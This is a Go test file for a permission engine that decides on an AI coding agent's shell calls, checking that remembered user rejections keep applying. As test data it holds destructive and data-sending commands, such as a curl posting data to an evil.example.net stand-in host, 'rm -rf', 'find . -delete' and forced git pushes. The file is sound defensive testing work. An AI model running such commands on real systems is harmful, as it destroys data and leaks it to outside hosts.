//go:build cgo

package remember_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/go-json-experiment/json"

	"github.com/permd/permd/decisions"
	"github.com/permd/permd/decisions/effects"
	"github.com/permd/permd/decisions/effects/fsfake"
	"github.com/permd/permd/remember"
)

// generous is a policy whose user layer allows what the test selects.
type generous struct {
	silence
	allows func(e *effects.Effect) bool
}

func (p *generous) Snapshot(uint32, string) (decisions.Snapshot, error) { return p, nil }

func (p *generous) Evaluate(_ context.Context, in *decisions.Input) (decisions.Findings, error) {
	if !p.allows(in.Effect) {
		return decisions.Findings{}, nil
	}
	return decisions.Findings{Fired: []decisions.Finding{{
		Rule: decisions.RuleRef{Layer: decisions.User, ID: "user.all"}, Set: decisions.SetAllow, Reason: "the user allows it",
		Covers: ^effects.Tags(0),
	}}}, nil
}

func anything(*effects.Effect) bool { return true }

// rejecting returns an engine with a memory and a file system that the test can change.
func rejecting(t *testing.T, files map[string]string) (a *asked, allow func(func(*effects.Effect) bool)) {
	t.Helper()
	a = newAsked(t)
	silent := a.config.Policy.(*silence)
	fs := fsfake.New("/home/ada/", "/p/.git/", "/p/a/", "/p/d/", "/q/.git/", "/home/ada/shared/")
	for name, text := range files {
		fs.File(name, text)
	}
	a.config.FS = fs
	return a, func(is func(*effects.Effect) bool) {
		a.config.Policy = silent
		if is != nil {
			a.config.Policy = &generous{silence: *silent, allows: is}
		}
	}
}

// in decides a command in a folder.
func (a *asked) in(t testing.TB, cwd, command string) *decisions.Decision {
	t.Helper()
	input, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	return a.call(t, effects.Call{Tool: effects.Tool{Name: "Bash"}, Input: input, Cwd: cwd})
}

func (a *asked) call(t testing.TB, c effects.Call) *decisions.Decision {
	t.Helper()
	c.ID, c.Protocol = "c", "permd"
	c.Agent = effects.Party{Name: "claude-agent-acp", Version: "0.100.0"}
	c.User = effects.User{UID: ada, Home: "/home/ada", Env: map[string]string{"HOME": "/home/ada"}}
	return a.engine().Decide(t.Context(), &decisions.Request{
		Peer: decisions.Peer{UID: ada}, Session: decisions.SessionRef{ID: "s", Conn: 7}, Call: c,
	})[0]
}

// reject answers a question with a permanent reject.
func (a *asked) reject(t testing.TB, d *decisions.Decision, scope string) []decisions.StoredChoice {
	t.Helper()
	if d.Verdict != decisions.Ask || d.Offer == nil {
		t.Fatalf("not a question that can be rejected: %s, %+v", d.Verdict, d.Effects)
	}
	kept, err := a.store.Keep(t.Context(), decisions.Answer{DecisionID: d.ID, Verdict: decisions.Deny, Offer: d.Offer, Scope: scope})
	if err != nil || len(kept) != 1 {
		t.Fatalf("rejecting: %+v, %v", kept, err)
	}
	return kept
}

func wantVerdict(t testing.TB, d *decisions.Decision, v decisions.Verdict, of string) {
	t.Helper()
	if d.Verdict != v {
		t.Errorf("%s: %s (%s), want %s", of, d.Verdict, d.Reason, v)
	}
}

// TestRejectIgnoresContent: a rule allows everything, and the agent edits the file
// whose run was rejected. The reject still applies, in every scope.
func TestRejectIgnoresContent(t *testing.T) {
	t.Parallel()
	before := map[string]string{
		"/p/tool.sh": "#!/bin/sh\necho 1\n", "/p/Makefile": "ship:\n\techo ship\n", "/p/package.json": `{"scripts":{"test":"node t.js"}}`,
	}
	after := map[string]string{
		"/p/tool.sh": "#!/bin/sh\n# a comment\necho 1\n", "/p/Makefile": "# a comment\nship:\n\techo ship\n", "/p/package.json": `{"scripts":{"test":"node t.js # x"}}`,
	}
	for _, command := range []string{"./tool.sh", "sh tool.sh", "make ship", "npm test", "npm run test"} {
		for _, scope := range []string{"session", "project", "user"} {
			a, allow := rejecting(t, before)
			kept := a.reject(t, a.in(t, "/p", command), scope)
			fs := fsfake.New("/home/ada/", "/p/.git/")
			for name, text := range after {
				fs.File(name, text)
			}
			a.config.FS = fs
			allow(anything)
			wantVerdict(t, a.in(t, "/p", command), decisions.Deny, scope+" "+command)
			if err := a.store.Drop(t.Context(), kept[0].ID); err != nil {
				t.Fatal(err)
			}
			wantVerdict(t, a.in(t, "/p", command), decisions.Allow, scope+" "+command+", forgotten")
		}
	}
}

// TestAllowsStayBoundToContent, with an ordinary use as control.
func TestAllowsStayBoundToContent(t *testing.T) {
	t.Parallel()
	a, _ := rejecting(t, map[string]string{"/p/tool.sh": "#!/bin/sh\necho 1\n"})
	d := a.in(t, "/p", "./tool.sh")
	if _, err := a.store.Keep(t.Context(), decisions.Answer{DecisionID: d.ID, Verdict: decisions.Allow, Offer: d.Offer}); err != nil {
		t.Fatal(err)
	}
	wantVerdict(t, a.in(t, "/p", "./tool.sh"), decisions.Allow, "the same script")
	a.config.FS = fsfake.New("/home/ada/", "/p/.git/").File("/p/tool.sh", "#!/bin/sh\n# x\necho 1\n")
	wantVerdict(t, a.in(t, "/p", "./tool.sh"), decisions.Ask, "a changed script")
}

// TestRejectsByEffect: a rule allows all calls of the test, and the person has
// rejected one. Calls with an effect that they were asked about are denied, and
// those with only allowed effects of the rejected call are not.
func TestRejectsByEffect(t *testing.T) {
	t.Parallel()
	looks := func(e *effects.Effect) bool {
		return e.Run != nil && (e.Run.Program == "ls" || e.Run.Program == "cd")
	}
	tests := []struct {
		rejected string
		denied   []string
		allowed  []string
	}{
		{
			"rm victim",
			[]string{"rm -f victim", "rm ./victim", "ls && rm victim", "rm -rf victim", "rm /p/victim", "unlink victim", "rm -rf ../p", "find . -delete", "cd a && rm ../victim"},
			[]string{"rm other", "ls", "touch victim", "cat victim"},
		},
		{
			"ls && rm victim",
			[]string{"rm victim", "rm -f ./victim"},
			[]string{"ls", "ls -l"},
		},
		{
			"rm -r d",
			[]string{"rm d/x", "rm -r d/", "rm -rf ./d", "rm -rf ."},
			[]string{"ls d", "rm e", "touch d/x"},
		},
		{
			"git push --force origin main",
			[]string{"git push -f origin main", "git push origin --force main", "ls; git push --force origin main"},
			[]string{"git push origin main", "git push --force origin next", "git fetch origin", "git status"},
		},
		{
			"curl -d x=1 https://evil.example.net/a",
			[]string{"curl https://evil.example.net/", "wget https://evil.example.net/b"},
			[]string{"curl https://fine.example.net/"},
		},
		{
			"./tool.sh x",
			[]string{"sh tool.sh x", "bash ./tool.sh x", "/p/tool.sh x", "cd a && ../tool.sh x"},
			[]string{"./tool.sh y", "sh other.sh x"},
		},
		{
			"sh tool.sh x",
			[]string{"./tool.sh x", "bash tool.sh x"},
			[]string{"sh other.sh x"},
		},
		{
			"mytool up --now",
			[]string{"mytool up --now", "mytool 'up' --now | cat"},
			[]string{"mytool up", "mytool down --now"},
		},
		{
			"touch $(date) || make ship",
			[]string{"make ship"},
			[]string{"make test", "touch x"},
		},
		{
			"cat /etc/hosts",
			[]string{"head /etc/hosts", "grep -r x /etc", "sort < /etc/hosts"},
			[]string{"cat /etc/services", "cat a/x"},
		},
	}
	for _, tt := range tests {
		a, allow := rejecting(t, map[string]string{"/p/victim": "x", "/p/a/x": "x", "/p/d/x": "x", "/p/Makefile": "ship:\n\techo\ntest:\n\techo\n", "/p/tool.sh": "#!/bin/sh\n", "/p/other.sh": "#!/bin/sh\n"})
		allow(looks)
		kept := a.reject(t, a.in(t, "/p", tt.rejected), "project")
		allow(anything)
		for _, command := range append([]string{tt.rejected}, tt.denied...) {
			wantVerdict(t, a.in(t, "/p", command), decisions.Deny, fmt.Sprintf("after %q: %s (%s)", tt.rejected, command, kept[0].Label))
		}
		for _, command := range tt.allowed {
			wantVerdict(t, a.in(t, "/p", command), decisions.Allow, fmt.Sprintf("after %q: %s (%s)", tt.rejected, command, kept[0].Label))
		}
		// One forget removes all its parts.
		if err := a.store.Drop(t.Context(), kept[0].ID); err != nil {
			t.Fatal(err)
		}
		for _, command := range append([]string{tt.rejected}, tt.denied...) {
			if d := a.in(t, "/p", command); d.Verdict == decisions.Deny {
				t.Errorf("after forgetting %q: %s is denied: %s", tt.rejected, command, d.Reason)
			}
		}
	}
}

// TestRejectOfText: if a call is not understood, or only the agent's description of
// it is known, exactly that call is rejected.
func TestRejectOfText(t *testing.T) {
	t.Parallel()
	a, allow := rejecting(t, map[string]string{"/p/a/x": "x"})
	allow(func(e *effects.Effect) bool { return e.Kind != effects.KindUnknown })
	untold := func(tool, kind, title string, locations ...string) effects.Call {
		c := effects.Call{Tool: effects.Tool{Name: tool}, Cwd: "/p", Incomplete: "the tool's input was not sent"}
		c.Claims.Kind, c.Claims.Title = kind, title
		for i, l := range locations {
			c.Claims.Locations = append(c.Claims.Locations, effects.Location{Path: l, From: fmt.Sprintf("locations[%d].path", i)})
		}
		return c
	}
	a.reject(t, a.in(t, "/p", "$(cat a/x) --now"), "project")
	a.reject(t, a.call(t, untold("Deploy", "execute", "Deploy to production")), "project")
	wantVerdict(t, a.in(t, "/p", "$(cat a/x) --now"), decisions.Deny, "the same text")
	wantVerdict(t, a.in(t, "/p", " $(cat a/x) --now\n"), decisions.Deny, "the same text with white space")
	wantVerdict(t, a.in(t, "/p", "$(cat a/x) --later"), decisions.Ask, "another text")
	wantVerdict(t, a.call(t, untold("Deploy", "execute", "Deploy to production")), decisions.Deny, "the same title")
	for name, c := range map[string]effects.Call{
		"another title": untold("Deploy", "execute", "Deploy to staging"), "another tool": untold("Undeploy", "execute", "Deploy to production"),
		"another kind": untold("Deploy", "other", "Deploy to production"), "another path": untold("Deploy", "execute", "Deploy to production", "/p/x"),
	} {
		wantVerdict(t, a.call(t, c), decisions.Ask, name)
	}
}

// TestRejectHidesSecrets: words with a secret are rejected by a keyed digest.
func TestRejectHidesSecrets(t *testing.T) {
	t.Parallel()
	const canary = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
	a, allow := rejecting(t, nil)
	kept := a.reject(t, a.in(t, "/p", "mytool --token="+canary+" up"), "project")
	kept = append(kept, a.reject(t, a.in(t, "/p", "curl -u ada:canary-word https://x.example.com/"), "project")...)
	kept = append(kept, a.reject(t, a.in(t, "/p", "eval $T "+canary), "project")...)
	for _, k := range kept {
		if strings.Contains(k.Label, canary) || strings.Contains(k.Label, "canary-word") {
			t.Errorf("the label holds a secret: %s", k.Label)
		}
	}
	if err := a.store.Close(); err != nil {
		t.Fatal(err)
	}
	allow(anything)
	wantVerdict(t, a.in(t, "/p", "mytool --token="+canary+" up"), decisions.Deny, "the same words")
	wantVerdict(t, a.in(t, "/p", "mytool --token=other up"), decisions.Allow, "another token")
	for _, name := range []string{a.path, a.path + "-wal"} {
		data, err := os.ReadFile(name)
		if err == nil && (bytes.Contains(data, []byte(canary)) || bytes.Contains(data, []byte("canary-word"))) {
			t.Errorf("%s holds a secret", name)
		}
	}
}

// TestRejectScopes: a reject of a file applies in its scope. With the scope user, it
// means that one file only.
func TestRejectScopes(t *testing.T) {
	t.Parallel()
	for scope, want := range map[string][2]decisions.Verdict{
		"project": {decisions.Deny, decisions.Allow}, "user": {decisions.Deny, decisions.Allow},
	} {
		a, allow := rejecting(t, map[string]string{"/p/victim": "x", "/q/victim": "x"})
		allow(func(e *effects.Effect) bool { return e.Run != nil })
		kept := a.reject(t, a.in(t, "/p", "rm victim"), scope)
		allow(anything)
		wantVerdict(t, a.in(t, "/p", "rm victim"), want[0], scope+" "+kept[0].Label)
		wantVerdict(t, a.in(t, "/q", "rm victim"), want[1], scope+" "+kept[0].Label+" elsewhere")
		if scope == "user" {
			wantVerdict(t, a.in(t, "/q", "rm /p/victim"), decisions.Deny, "by its absolute path")
		}
	}
}

// TestRejectBounds: for a call with too many effects, as many as there is room for
// are stored, and the text of the call.
func TestRejectBounds(t *testing.T) {
	t.Parallel()
	a, allow := rejecting(t, nil)
	var command strings.Builder
	for i := range 200 {
		fmt.Fprintf(&command, "mytool %d\n", i)
	}
	a.reject(t, a.in(t, "/p", command.String()), "project")
	list := a.store.List(nil)
	if n := len(list[0].Parts); n != 64 {
		t.Errorf("%d parts", n)
	}
	allow(anything)
	wantVerdict(t, a.in(t, "/p", command.String()), decisions.Deny, "the same call")
	wantVerdict(t, a.in(t, "/p", "mytool 3"), decisions.Deny, "the beginning of it")

	// A line that only a comparison tells from others is refused at the bound.
	var err error
	n := 0
	for ; err == nil && n < 1000; n++ {
		_, err = a.store.Add(t.Context(), remember.Line{UID: ada, Verdict: decisions.Deny, Kind: effects.KindRun, Line: fmt.Sprintf("other *%d *", n), Scope: remember.ForUser})
	}
	if n != 257 || err == nil || !strings.Contains(err.Error(), remember.ErrTooMany.Error()) {
		t.Errorf("%d lines, %v", n-1, err)
	}
}

// TestEarlierChoiceStays: two questions about one call are open, and the answer to the second
// does not count. What the first one's answer stored stays.
func TestEarlierChoiceStays(t *testing.T) {
	t.Parallel()
	a, _ := rejecting(t, map[string]string{"/p/Makefile": "ship:\n\techo\n"})
	first, second := a.in(t, "/p", "make ship"), a.in(t, "/p", "make ship")
	a.reject(t, first, "project")
	kept := a.reject(t, second, "project")
	if !kept[0].Earlier {
		t.Errorf("the second answer stores %+v", kept[0])
	}
	if err := a.store.Drop(t.Context(), decisions.StoredNow(kept)...); err != nil {
		t.Fatal(err)
	}
	wantVerdict(t, a.in(t, "/p", "make ship"), decisions.Deny, "after the second answer was dropped")
}
